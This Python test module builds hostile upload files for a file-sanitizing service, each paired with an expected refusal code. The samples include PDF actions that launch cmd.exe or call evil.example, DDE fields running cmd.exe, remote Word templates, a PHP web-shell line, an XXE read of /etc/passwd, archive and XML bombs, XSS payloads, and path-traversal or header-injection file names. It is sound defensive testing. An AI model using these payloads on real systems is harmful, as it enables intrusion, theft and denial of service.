"""Files that attackers send, made here: each with what becomes of it, a refusal's code or None where it is taken
and made harmless."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from .samples import pdf, picture, picture_bomb, relations, word
from .scanner import EICAR

SCRIPT = b"<script>alert('pwned')</script>"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class HostileFile:
    """`code` of the refusal; None for a file that is taken. `trace` must not be in what is kept then."""

    title: str
    content: bytes
    code: str | None
    name: str = "cv.pdf"
    trace: bytes = b""


def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({_name("/S"): _name(kind), **{_name(f"/{key}"): entries[key] for key in entries}})


def _pdf_with(change) -> bytes:
    """A page, changed by `change(writer, page)`."""
    writer = PdfWriter()
    change(writer, writer.add_blank_page(200, 200))
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def _annotated(subtype: str, **entries) -> bytes:
    def change(writer, page):
        note = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name(subtype),
                _name("/Rect"): ArrayObject(NumberObject(each) for each in (0, 0, 100, 100)),
                **{_name(f"/{key}"): entries[key] for key in entries},
            }
        )
        page[_name("/Annots")] = ArrayObject([writer._add_object(note)])

    return _pdf_with(change)


def _launch() -> DictionaryObject:
    return _action("/Launch", F=TextStringObject("cmd.exe"))


def _at_opening(writer, _page) -> None:
    writer._root_object[_name("/OpenAction")] = writer._add_object(_launch())


def _in_a_chain(writer, _page) -> None:
    script = _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil.example')"))
    writer._root_object[_name("/OpenAction")] = _action("/GoTo", Next=ArrayObject([script]))


def _at_the_page(_writer, page) -> None:
    page[_name("/AA")] = DictionaryObject({_name("/O"): _launch()})


def _form_of_xml(writer, _page) -> None:
    writer._root_object[_name("/AcroForm")] = DictionaryObject({_name("/XFA"): TextStringObject("<xdp/>")})


def _by_a_stream(writer, page) -> None:
    code = StreamObject()
    code.set_data(b"this.exportDataObject({cName: 'evil', nLaunch: 2})")
    action = _action("/JavaScript", JS=writer._add_object(code))
    page[_name("/AA")] = DictionaryObject({_name("/C"): writer._add_object(action)})


def _nested(writer, _page) -> None:
    inner = ArrayObject()
    for _level in range(60):
        inner = ArrayObject([inner])
    writer._root_object[_name("/Nested")] = inner


def _archive(*parts: tuple[str, bytes]) -> bytes:
    """A Word document whose parts may have any names, twice as well."""
    file = io.BytesIO(word())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def _field(*runs: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return word(main=f"<w:document {W}><w:body><w:p>{texts}</w:p></w:body></w:document>".encode())


def _simple_field(instruction: str) -> bytes:
    return word(main=f"<w:document {W}><w:fldSimple w:instr='{instruction}'/></w:document>".encode())


def _part_of(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationships><Relationship Type="http://schemas/{kind}" Target="{target}"/></Relationships>'
    )
    return word(parts={"word/_rels/document.xml.rels": relation.encode(), f"word/{target}": SCRIPT})


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
READS_A_FILE = b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'


def _with_chunk(content: bytes, kind: bytes, text: bytes) -> bytes:
    """A PNG with one chunk more before its end."""
    chunk = struct.pack("!L", len(text)) + kind + text + struct.pack("!L", zlib.crc32(kind + text))
    end = content.rindex(b"IEND") - 4
    return content[:end] + chunk + content[end:]


def _with_comment(content: bytes, text: bytes) -> bytes:
    """A JPEG with a comment after its first marker."""
    return content[:2] + b"\xff\xfe" + struct.pack("!H", len(text) + 2) + text + content[2:]


def _archive_in_archive() -> bytes:
    layer = b"\0" * 20_000_000
    for _level in range(3):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("layer", layer)
        layer = file.getvalue()
    return layer


def _lying_about_its_parts() -> bytes:
    """Parts that share their bytes, so that a small file unpacks to a large one."""
    content = word(parts={f"word/media/{number}.bin": b"\0" * 9_000_000 for number in range(10)})
    return content.replace((9_000_000).to_bytes(4, "little"), (9_000).to_bytes(4, "little"))


def hostile_files() -> Iterator[HostileFile]:
    yield from _polyglots()
    yield from _programs()
    yield from _bombs()
    yield from _of_other_kinds()
    yield from _names()
    yield HostileFile("EICAR alone", EICAR, "kind")
    yield HostileFile("EICAR in a PDF", pdf() + b"\n%" + EICAR, "infected")
    yield HostileFile("EICAR in a picture", picture("PNG") + EICAR, "infected", "photo.png")
    yield HostileFile("EICAR in a Word document", word(parts={"word/a.txt": EICAR}), "infected", "cv.docx")


def _polyglots() -> Iterator[HostileFile]:
    yield HostileFile("a page before a PDF", b"<html>" + SCRIPT + pdf(), "kind")
    yield HostileFile("a PDF with a page behind", pdf() + b"<html>" + SCRIPT, None)
    yield HostileFile("PDF and archive", pdf() + word(), "mixed")
    yield HostileFile(
        "a picture with a page in its comment", _with_comment(picture(), SCRIPT), None, "a.jpg", SCRIPT
    )
    yield HostileFile(
        "a picture with an archive behind", picture("PNG") + word(), None, "a.png", b"PK\x03\x04"
    )
    yield HostileFile(
        "a picture with a script in a text",
        _with_chunk(picture("PNG"), b"tEXt", b"x\0" + SCRIPT),
        None,
        "a.png",
        SCRIPT,
    )
    yield HostileFile(
        "a picture with PHP in its end", picture() + b"<?php system($_GET[0]); ?>", None, "a.jpg", b"<?php"
    )
    yield HostileFile("GIF that is a script", b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)", "kind", "a.gif")


def _programs() -> Iterator[HostileFile]:
    yield HostileFile("a PDF that launches", _pdf_with(_at_opening), "active")
    yield HostileFile("a PDF with a script in a chain of actions", _pdf_with(_in_a_chain), "active")
    yield HostileFile("a PDF whose page launches", _pdf_with(_at_the_page), "active")
    yield HostileFile("a PDF with a script in a stream", _pdf_with(_by_a_stream), "active")
    yield HostileFile("a PDF with a form of XML", _pdf_with(_form_of_xml), "active")
    yield HostileFile("a PDF with a note that launches", _annotated("/Link", A=_launch()), "active")
    yield HostileFile("a PDF with a film", _annotated("/RichMedia"), "active")
    yield HostileFile("a PDF with a file pinned to it", _annotated("/FileAttachment"), "active")
    yield HostileFile("a PDF that sends a form", _annotated("/Widget", A=_action("/SubmitForm")), "active")
    yield HostileFile("a PDF with an attachment", pdf(attachment=True), "active")
    yield HostileFile("macros", word("word/vbaProject.bin"), "active", "cv.docx")
    yield HostileFile("macros under another letter case", word("word/VBAPROJECT.BIN"), "active", "cv.docx")
    yield HostileFile(
        "a document of macros by its type",
        word(types=b"<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"),
        "active",
        "cv.docx",
    )
    yield HostileFile("controls", word("word/activeX/activeX1.xml"), "active", "cv.docx")
    yield HostileFile("an embedded program", word("word/embeddings/oleObject1.bin"), "active", "cv.docx")
    yield HostileFile("an embedded document with macros", word("word/embeddings/a.docm"), "active", "cv.docx")
    yield HostileFile(
        "a far template",
        word(parts=relations("http://evil.example/t.dotm", "attachedTemplate")),
        "active",
        "cv.docx",
    )
    yield HostileFile(
        "a far picture", word(parts=relations("\\\\evil.example\\a.png", "image")), "active", "cv.docx"
    )
    yield HostileFile("a page inside", _part_of("aFChunk", "a.html"), "active", "cv.docx")
    yield HostileFile(
        "a field that starts a program", _field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "active", "cv.docx"
    )
    yield HostileFile("such a field in pieces", _field("DD", "EAUTO cmd"), "active", "cv.docx")
    yield HostileFile("such a field written short", _simple_field("DDE cmd"), "active", "cv.docx")
    yield HostileFile(
        "a field that loads", _field('INCLUDEPICTURE "http://evil.example/a"'), "active", "cv.docx"
    )


def _bombs() -> Iterator[HostileFile]:
    yield HostileFile("a bomb by ratio", word(parts={"word/a.xml": b"0" * 30_000_000}), "bomb", "cv.docx")
    yield HostileFile("a bomb by count", word(*(f"word/{n}.xml" for n in range(2100))), "bomb", "cv.docx")
    yield HostileFile("a bomb that lies", _lying_about_its_parts(), "broken", "cv.docx")
    yield HostileFile("archives in archives", _archive_in_archive(), "kind", "cv.docx")
    yield HostileFile("entities that multiply", word(main=LAUGHS), "broken", "cv.docx")
    yield HostileFile("an entity that reads a file", word(main=READS_A_FILE), "broken", "cv.docx")
    yield HostileFile("a picture of 900 million points", picture_bomb(), "bomb", "a.png")
    yield HostileFile("a PDF of objects in objects", _pdf_with(_nested), "bomb")


def _of_other_kinds() -> Iterator[HostileFile]:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
    yield HostileFile("SVG with script", svg, "kind", "a.svg")
    yield HostileFile("SVG named as a picture", b"<?xml version='1.0'?>" + svg, "kind", "a.png")
    yield HostileFile("a page", b"<!DOCTYPE html>" + SCRIPT, "kind", "cv.pdf")
    yield HostileFile("a program of Windows", b"MZ\x90\0" + b"\0" * 200, "kind", "cv.pdf.exe")
    yield HostileFile("a program of Linux", b"\x7fELF" + b"\0" * 200, "kind", "cv")
    yield HostileFile("PostScript", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file", "kind", "a.eps")
    yield HostileFile("RTF", b"{\\rtf1\\object}", "kind", "cv.doc")
    yield HostileFile("a shortcut", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100, "kind", "cv.lnk")


def _names() -> Iterator[HostileFile]:
    for name in (
        "../../../etc/cron.d/evil.pdf", "..\\..\\windows\\evil.pdf", "/etc/passwd", "C:\\boot.pdf", "cv.pdf\0.exe",
        "cv.pdf\r\nSet-Cookie: a=b", '"><script>alert(1)</script>.pdf', "con.pdf", "\u202efdp.exe", "x" * 500 + ".pdf",
    ):  # fmt: skip
        yield HostileFile(f"the name {name[:30]!r}", pdf(), None, name)
    for inside in ("../../evil.xml", "/etc/evil", "C:\\evil.xml", "word\\..\\..\\evil"):
        yield HostileFile(f"a part named {inside}", _archive((inside, b"x")), "broken", "cv.docx")
    yield HostileFile("a part twice", _archive(("word/document.xml", SCRIPT)), "broken", "cv.docx")
